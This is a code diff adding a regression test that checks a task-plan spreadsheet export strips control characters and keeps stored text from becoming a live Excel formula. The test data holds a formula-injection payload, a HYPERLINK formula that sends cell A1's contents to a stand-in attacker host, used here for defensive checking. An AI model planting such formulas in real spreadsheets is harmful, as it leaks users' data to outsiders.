@@ -107,3 +107,29 @@ def test_bad_rows_are_refused_with_their_numbers(db: Database, client: TestClien
     status, page = _import(client, token, plan, buffer.getvalue())
     assert status == 422
     assert "no header row" in page
+
+
+def test_stored_text_cannot_break_or_script_the_export(db: Database, client: TestClient) -> None:
+    """Defect 16: a control character made every export a 500; ``=`` made a live formula."""
+    plan = small_plan(db, "330100", TASKS)
+    tasks = task_ids(db, plan)
+    make_user(db, "hz", Role.CITY_OFFICER, "330100")
+    token = login(client, "hz")
+    headers = {"X-CSRF-Token": token}
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    for number, text in (("1", "progress\x01ok"), ("2", formula)):
+        reported = client.post(
+            f"/api/v1/plans/tasks/{tasks[number]}/reports", data={"text": text}, headers=headers
+        )
+        assert reported.status_code == 201, reported.text
+
+    exported = client.get(f"/plans/{plan}/tasks.xlsx")
+    assert exported.status_code == 200
+    sheet = load_workbook(io.BytesIO(exported.content)).worksheets[0]
+    assert sheet.cell(3, 6).value == "progressok"
+    assert sheet.cell(4, 6).value == formula
+    assert sheet.cell(4, 6).data_type == "s"  # text, not a formula Excel would run
+
+    status, page = _import(client, token, plan, exported.content)  # and the sheet reads back:
+    assert status == 200
+    assert "新增进展 1" in page  # only the cleaned text of task 1 differs from what is stored
